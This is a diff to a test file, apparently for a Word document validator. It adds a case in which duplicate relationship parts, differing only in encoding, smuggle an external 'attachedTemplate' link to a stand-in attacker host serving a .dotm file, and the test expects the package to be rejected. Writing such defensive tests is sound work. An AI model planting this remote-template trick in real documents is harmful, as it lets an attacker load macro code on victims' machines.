@@ -138,6 +138,19 @@ test.each<[string, [string, Buffer | string][], string]>([
     'is incomplete or damaged',
   ],
   [
+    'with two parts whose names differ only in case and encoding',
+    [
+      ['[Content_Types].xml', contentTypes()],
+      document,
+      ['word/_rels/document%2Exml.rels', relationships('styles', 'styles.xml')],
+      [
+        'word/_rels/document.xml.rels',
+        relationships('attachedTemplate', 'https://evil.example/a.dotm', 'External'),
+      ],
+    ],
+    'is incomplete or damaged',
+  ],
+  [
     'with a DOCTYPE in its content types',
     [['[Content_Types].xml', `<!DOCTYPE Types>${contentTypes().replace(/<\?.*?\?>/, '')}`], document],
     'is incomplete or damaged',
